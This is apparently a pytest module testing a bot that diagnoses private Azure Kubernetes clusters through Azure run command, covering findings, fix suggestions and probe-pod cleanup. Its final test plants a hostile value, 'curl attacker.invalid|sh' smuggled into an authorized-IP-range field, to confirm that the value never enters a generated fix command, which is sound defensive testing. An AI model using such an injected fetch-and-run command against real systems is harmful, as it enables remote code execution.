"""Clusters whose API server the bot cannot connect to are checked through Azure run command.

The worlds of tests/worlds/private/ (private/expected.yaml) show each way in and each way
it fails; every cluster-side code of the catalog is reached through run command by taking
cluster/ worlds and making them private (`make_private`: what `az aks create
--enable-private-cluster` changes in the cluster's body: a private FQDN instead of the
public one, apiServerAccessProfile.enablePrivateCluster). All checks of this module run
side by side once (each on its own sandbox), so the module costs about one check's time.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml
from kubernetes import client as k8s

from bot.collect.probe import ProbeSettings
from bot.endpoint import parse_endpoint
from bot.engine import CheckRequest, Engine
from bot.evidence import PROBE_LABEL, PROBE_NAME
from bot.runtime import attach
from bot.sandbox.server import Sandbox
from bot.sandbox.world import parse_world
from tests.helpers import WORLDS, assert_expected, expected_worlds
from tests.integration.test_cluster_worlds import EXPECTED as CLUSTER_EXPECTED
from tests.integration.test_cluster_worlds import REQUIRED_CODES

PRIVATE = WORLDS / "private"
EXPECTED = expected_worlds(PRIVATE / "expected.yaml")
CLUSTER_TYPE = "microsoft.containerservice/managedclusters"
# cluster/ worlds that with private/'s need every cluster-side code (REQUIRED_CODES).
COVER = [
    "pod-oomkilled.yaml",
    "rootcause-probe-timeout-before-node-not-ready.yaml",
    "node-cpu-high.yaml",
    "node-memory-high.yaml",
    "probe-recv-reset.yaml",
    "node-pid-pressure.yaml",
    "pod-near-limit-cpu.yaml",
    "probe-dns-nxdomain.yaml",
    "probe-connect-refused.yaml",
    "probe-tls-self-signed.yaml",
    "metrics-server-missing.yaml",
    "probe-http-502-gateway.yaml",
    "probe-proxy-connect-403.yaml",
    "probe-http-470-azfw-deny.yaml",
    "probe-http-403-client-error.yaml",
    "probe-http-503-server-error.yaml",
]


def make_private(world: dict[str, Any]) -> dict[str, Any]:
    """The same world with every cluster private: no public FQDN, a private one instead."""
    out = copy.deepcopy(world)
    for body in out["arm"]:
        if str(body.get("type", "")).lower() != CLUSTER_TYPE:
            continue
        props = body.setdefault("properties", {})
        public = props.pop("fqdn", None) or f"{body['name']}.hcp.westeurope.azmk8s.io"
        props["privateFQDN"] = public.replace(".hcp.", ".privatelink.")
        props.setdefault("apiServerAccessProfile", {})["enablePrivateCluster"] = True
    return out


@dataclass
class Outcome:
    report: dict[str, Any]
    probe_pods: list[str]  # probe pods left in the cluster after the check
    arm_bodies: list[Any]  # bodies of the runCommand POSTs


def _probe_pods(sandbox: Sandbox, cluster_id: str) -> list[str]:
    cfg = k8s.Configuration()
    cfg.host = sandbox.kube_url(cluster_id)
    cfg.api_key = {"authorization": "Bearer test"}
    with k8s.ApiClient(cfg) as api:
        pods = k8s.CoreV1Api(api).list_pod_for_all_namespaces(
            label_selector=f"{PROBE_LABEL}={PROBE_NAME}"
        )
    return [p.metadata.name for p in pods.items]


def check(
    world: dict[str, Any] | Path,
    spec: dict[str, Any],
    settings: ProbeSettings | None = None,
    mode: str = "all",
) -> Outcome:
    loaded = parse_world(world) if isinstance(world, dict) else world
    with Sandbox(loaded) as sandbox:
        rt = attach(sandbox, settings or ProbeSettings())
        try:
            cluster_id = sandbox.world.clusters[spec["alias"]]
            report = Engine(rt).check(
                CheckRequest(
                    alias=spec["alias"],
                    cluster_id=cluster_id,
                    endpoint=parse_endpoint(spec["endpoint"]) if spec["endpoint"] else None,
                    pod=spec.get("pod"),
                    mode=mode,
                )
            )
            sandbox.run_commands.wait(30)  # a command the check gave up on runs to its end
            posts = [c.body for c in sandbox.calls("arm") if c.path.endswith("/runCommand")]
            return Outcome(report.to_json(), _probe_pods(sandbox, cluster_id), posts)
        finally:
            rt.clients.close()


def _load(path: Path) -> dict[str, Any]:
    return yaml.safe_load(path.read_text())


def _with_leftovers(world: dict[str, Any]) -> dict[str, Any]:
    """A killed run's probe pod from an hour ago, and another check's from a moment ago."""
    out = copy.deepcopy(world)
    cluster_id = next(iter(out["clusters"].values()))
    spec = out.setdefault("kubernetes", {}).setdefault(cluster_id, {})
    for name, age in (("aks-egress-probe-stale1", 3600), ("aks-egress-probe-fresh1", 5)):
        stamp = (parse_world(out).now - timedelta(seconds=age)).strftime("%Y-%m-%dT%H:%M:%SZ")
        spec.setdefault("pods", []).append(
            {
                "metadata": {
                    "name": name,
                    "namespace": "aks-egress",
                    "creationTimestamp": stamp,
                    "labels": {PROBE_LABEL: PROBE_NAME, "aks-egress.io/run-id": name[-6:]},
                },
                "spec": {"containers": [{"name": "probe", "image": "x"}]},
                "status": {"phase": "Running"},
            }
        )
    return out


CASES: dict[str, Callable[[], Outcome]] = {
    **{
        f"private/{name}": (
            lambda name=name: check(PRIVATE / name, EXPECTED[name])  # type: ignore[misc]
        )
        for name in EXPECTED
    },
    **{
        f"cluster/{name}": (
            lambda name=name: check(  # type: ignore[misc]
                make_private(_load(WORLDS / "cluster" / name)), CLUSTER_EXPECTED[name]
            )
        )
        for name in COVER
    },
    "leftovers, entra-id": lambda: check(
        _entra_id(
            _with_leftovers(make_private(_load(WORLDS / "cluster" / "probe-http-200-ok.yaml")))
        ),
        CLUSTER_EXPECTED["probe-http-200-ok.yaml"],
    ),
    "timeout": lambda: check(
        {
            **make_private(_load(WORLDS / "cluster" / "probe-http-200-ok.yaml")),
            "faults": {"probeSeconds": 0.2, "runCommandSeconds": 4},
        },
        CLUSTER_EXPECTED["probe-http-200-ok.yaml"],
        replace(ProbeSettings(), run_command_timeout_s=1),
    ),
    "snat-direct": lambda: check(WORLDS / "lb-snat-high-and-pressure.yaml", _SNAT, mode="snat"),
    "snat-private": lambda: check(
        make_private(_load(WORLDS / "lb-snat-high-and-pressure.yaml")), _SNAT, mode="snat"
    ),
}
_SNAT = {"alias": "shop-prod", "endpoint": "https://api.contoso.com"}
POD = WORLDS / "pod"
POD_EXPECTED = expected_worlds(POD / "expected.yaml")
# The pod's own view (its NetworkPolicies) and CoreDNS's coredns-custom, read by run command.
POD_VIEWS = {"endport-range-misses-port.yaml": "NETPOL_EGRESS_DENY"}
POD_VIEWS["coredns-forward-blackhole.yaml"] = "DNS_SERVER_BLOCKED"
for _name in POD_VIEWS:
    _spec = dict(POD_EXPECTED[_name])
    _args = _spec.get("args") or []
    _spec["pod"] = _args[_args.index("--pod") + 1] if "--pod" in _args else None
    CASES[f"pod/{_name}"] = lambda name=_name, spec=_spec: check(  # type: ignore[misc]
        make_private(_load(POD / name)), spec
    )


def _entra_id(world: dict[str, Any]) -> dict[str, Any]:
    for body in world["arm"]:
        if str(body.get("type", "")).lower() == CLUSTER_TYPE:
            body["properties"]["aadProfile"] = {"managed": True, "enableAzureRBAC": True}
    return world


@pytest.fixture(scope="module")
def outcomes() -> dict[str, Outcome]:
    with ThreadPoolExecutor(6) as pool:
        futures = {name: pool.submit(run) for name, run in CASES.items()}
        return {name: future.result() for name, future in futures.items()}


def _by_code(report: dict[str, Any], code: str) -> list[dict[str, Any]]:
    return [f for f in report["findings"] if f["code"] == code]


@pytest.mark.parametrize("world", sorted(EXPECTED))
def test_private_world_gives_expected_findings(world, outcomes):
    spec = EXPECTED[world]
    outcome = outcomes[f"private/{world}"]
    assert_expected(outcome.report, spec)
    assert outcome.report["stats"]["runCommands"] == spec["runCommands"]
    assert outcome.probe_pods == [], "a probe pod was left in the cluster"
    for access in _by_code(outcome.report, "KUBE_ACCESS"):
        assert access["detail"].startswith("Reached the cluster's API server through Azure run")
    for unreachable in _by_code(outcome.report, "KUBE_UNREACHABLE"):
        assert unreachable["evidence"]["how"].startswith("Azure run command: ")


def test_the_failures_say_what_to_do(outcomes):
    (disabled,) = _by_code(outcomes["private/run-command-disabled.yaml"].report, "KUBE_UNREACHABLE")
    assert disabled["fix"] == [
        "az aks update -g rg-web-prod-weu -n aks-web-prod-weu --enable-run-command"
    ]
    assert outcomes["private/run-command-disabled.yaml"].arm_bodies == [], "never tried"
    # A public API server that leaves the bot out of its authorized ranges: the bot's
    # address joins the ranges it has (the flag replaces the list).
    report = outcomes["private/authorized-ranges-run-command-disabled.yaml"].report
    (outside,) = _by_code(report, "KUBE_UNREACHABLE")
    assert outside["fix"][1] == (
        "az aks update -g rg-web-prod-weu -n aks-web-prod-weu --api-server-authorized-ip-ranges "
        "203.0.113.0/24,198.51.100.17/32,'<bot-egress-cidr>'"
    )
    (denied,) = _by_code(outcomes["private/run-command-forbidden.yaml"].report, "KUBE_UNREACHABLE")
    assert "managedClusters/runCommand/action" in denied["detail"]
    assert denied["fix"][0].startswith("az role assignment create")
    (pod,) = _by_code(outcomes["private/command-pod-not-running.yaml"].report, "KUBE_UNREACHABLE")
    assert pod["evidence"]["reason"] == "commandPodFailed"
    assert pod["fix"][0].startswith("az aks nodepool list -g rg-web-prod-weu")
    (refused,) = _by_code(outcomes["private/command-fails.yaml"].report, "KUBE_UNREACHABLE")
    assert "list nodes" in refused["detail"] and "403" not in refused["evidence"]["how"]


def test_authorized_ip_ranges_are_named_as_the_reason(outcomes):
    (access,) = _by_code(outcomes["private/authorized-ip-ranges.yaml"].report, "KUBE_ACCESS")
    assert "authorized IP ranges" in access["detail"]
    assert access["evidence"]["runCommands"] == 2


def test_a_public_fqdn_does_not_make_a_private_api_server_public(outcomes):
    """enablePrivateClusterPublicFQDN: the public name resolves to the private address
    (https://learn.microsoft.com/azure/aks/private-clusters): still run command."""
    (access,) = _by_code(
        outcomes["private/public-fqdn-private-api-server.yaml"].report, "KUBE_ACCESS"
    )
    assert "the API server is private" in access["detail"]


def test_authorized_ranges_with_run_command_disabled_never_try_it(outcomes):
    outcome = outcomes["private/authorized-ranges-run-command-disabled.yaml"]
    (unreachable,) = _by_code(outcome.report, "KUBE_UNREACHABLE")
    assert "authorized IP ranges" in unreachable["detail"]
    assert "run command is disabled" in unreachable["detail"]
    assert outcome.arm_bodies == [], "never tried"


def test_the_pod_reaches_the_command_as_a_file_not_on_its_command_line(outcomes):
    bodies = outcomes["private/pod-check.yaml"].arm_bodies
    assert len(bodies) == 2
    for body in bodies:
        assert body["command"] in ("sh ./read.sh", "sh ./probe.sh")
        assert "github-sync" not in body["command"]


@pytest.mark.parametrize("world", COVER)
def test_cluster_side_codes_through_run_command(world, outcomes):
    report = outcomes[f"cluster/{world}"].report
    assert_expected(report, CLUSTER_EXPECTED[world])
    assert 1 <= report["stats"]["runCommands"] <= 2
    (access,) = _by_code(report, "KUBE_ACCESS")
    assert "Azure run command: the API server is private" in access["detail"]
    assert outcomes[f"cluster/{world}"].probe_pods == []


def test_the_cover_reaches_every_cluster_side_code():
    covered = {code for name in COVER for code in CLUSTER_EXPECTED[name]["mustInclude"]}
    covered |= {code for spec in EXPECTED.values() for code in spec["mustInclude"]}
    assert not REQUIRED_CODES - covered


def test_leftover_probe_pods_are_swept_by_the_api_servers_clock(outcomes):
    outcome = outcomes["leftovers, entra-id"]
    assert outcome.probe_pods == ["aks-egress-probe-fresh1"], "stale swept, the fresh one kept"
    assert _by_code(outcome.report, "PROBE_OK")


def test_a_command_that_times_out_leaves_nothing_running(outcomes):
    outcome = outcomes["timeout"]
    (unreachable,) = _by_code(outcome.report, "KUBE_UNREACHABLE")
    assert unreachable["evidence"]["reason"] == "timeout"
    assert "did not finish within 1 s" in unreachable["detail"]
    assert outcome.probe_pods == [], "the probe command deleted its pods when it ended"


def test_an_entra_id_cluster_gets_the_cluster_token(outcomes):
    bodies = outcomes["leftovers, entra-id"].arm_bodies
    assert bodies and all(body.get("clusterToken") for body in bodies)
    assert all("clusterToken" not in b for b in outcomes["private/pod-check.yaml"].arm_bodies)


def test_the_snat_step_maps_nodes_through_one_run_command(outcomes):
    direct, private = outcomes["snat-direct"].report, outcomes["snat-private"].report
    assert private["stats"]["runCommands"] == 1, "no probe in the SNAT step"

    def snat(report: dict[str, Any]) -> list[tuple[str, str, Any]]:
        return [
            (f["code"], f["detail"], f["evidence"])
            for f in report["findings"]
            if f["code"].startswith(("SNAT", "NATGW"))
        ]

    assert snat(private) == snat(direct) and snat(direct)


def test_nothing_is_left_running_after_any_check(outcomes):
    assert all(o.probe_pods == [] for name, o in outcomes.items() if "leftovers" not in name)


def test_the_daily_summary_names_nodes_through_one_run_command():
    from bot import summary

    world = parse_world(make_private(_load(WORLDS / "lb-snat-high-and-pressure.yaml")))
    with Sandbox(world) as sandbox:
        rt = attach(sandbox, ProbeSettings())
        try:
            cluster_id = sandbox.world.clusters["shop-prod"]
            with summary.Fanout.open(1, rt.clients) as fanout:
                data = summary.summarize_cluster(
                    rt, "shop-prod", cluster_id, sandbox.clock(), fanout
                )
        finally:
            rt.clients.close()
        posts = [c for c in sandbox.calls("arm") if c.path.endswith("/runCommand")]
    assert len(posts) == 1
    assert data["topNodes"] and data["topNodes"][0].startswith("aks-apps-")


def test_the_appliance_bypass_probes_a_private_cluster_through_run_command(capsys, tmp_path):
    """Before and after the route change, the probe goes through run command: the same
    verdict as on the public cluster (tests/integration/test_bypass.py)."""
    from bot.cli import main

    world = tmp_path / "private-bypass.yaml"
    world.write_text(yaml.safe_dump(make_private(_load(WORLDS / "udr-firewall-bypass.yaml"))))
    argv = ["bypass", "batch-prod", "--endpoint", "http://files.example.org", "--minutes", "1"]
    assert main([*argv, "--yes", "--json", "--world", str(world)]) == 0
    out = json.loads(capsys.readouterr().out)
    assert out["verdict"] == "BYPASS_PROVES_APPLIANCE" and out["restored"] is True
    assert (out["before"], out["after"]) == ("PROBE_FIREWALL_DENY_HTTP", "PROBE_OK")


@pytest.mark.parametrize("world", sorted(POD_VIEWS))
def test_the_pods_own_view_and_coredns_are_read_through_run_command(world, outcomes):
    """Its NetworkPolicies and coredns-custom decide the root cause as on the public
    cluster (the probe inside the pod, an ephemeral container, is not run this way)."""
    report = outcomes[f"pod/{world}"].report
    assert report["rootCause"] == POD_EXPECTED[world]["rootCause"] == POD_VIEWS[world]
    assert report["stats"]["runCommands"] == 2


def test_hostile_authorized_ranges_never_reach_the_fix(run_check, tmp_path):
    """The cluster's own ranges go into the fix line only when each is an IP network."""
    world = WORLDS / "private" / "authorized-ranges-run-command-disabled.yaml"
    data = yaml.safe_load(world.read_text())
    for resource in data["arm"]:
        profile = resource.get("properties", {}).get("apiServerAccessProfile")
        if profile:
            profile["authorizedIPRanges"].append("10.0.0.0/8 --yes; curl attacker.invalid|sh")
    hostile = tmp_path / "hostile.yaml"
    hostile.write_text(yaml.safe_dump(data))
    code, report = run_check("web-prod-weu", "https://api.github.com", "--world", str(hostile))
    assert code == 0
    (outside,) = _by_code(report, "KUBE_UNREACHABLE")
    assert outside["fix"] == [
        "az aks update -g rg-web-prod-weu -n aks-web-prod-weu --enable-run-command"
    ]
